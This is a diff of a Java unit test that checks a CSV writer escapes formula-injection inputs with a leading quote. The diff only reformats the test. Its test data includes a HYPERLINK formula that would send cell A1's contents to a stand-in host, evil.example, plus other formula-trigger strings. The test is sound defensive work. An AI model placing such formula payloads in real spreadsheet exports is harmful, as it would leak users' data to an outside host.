@@ -13,10 +13,14 @@ class CsvTest {
 
     @Test
     void textThatASpreadsheetWouldRunAsAFormulaGetsALeadingQuote() {
-        String csv = new Csv().row(List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1)",
-                "\tx", "\rx", "＝1+1", "－5")).toString();
-        assertEquals("\uFEFF\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",\"'+1+2\",\"'-2+3\",\"'@SUM(A1)\","
-                + "\"'\tx\",\"'\rx\",\"'＝1+1\",\"'－5\"\r\n", csv);
+        String csv = new Csv()
+                .row(List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1)",
+                        "\tx", "\rx", "＝1+1", "－5"))
+                .toString();
+        assertEquals(
+                "\uFEFF\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",\"'+1+2\",\"'-2+3\",\"'@SUM(A1)\","
+                        + "\"'\tx\",\"'\rx\",\"'＝1+1\",\"'－5\"\r\n",
+                csv);
     }
 
     @Test
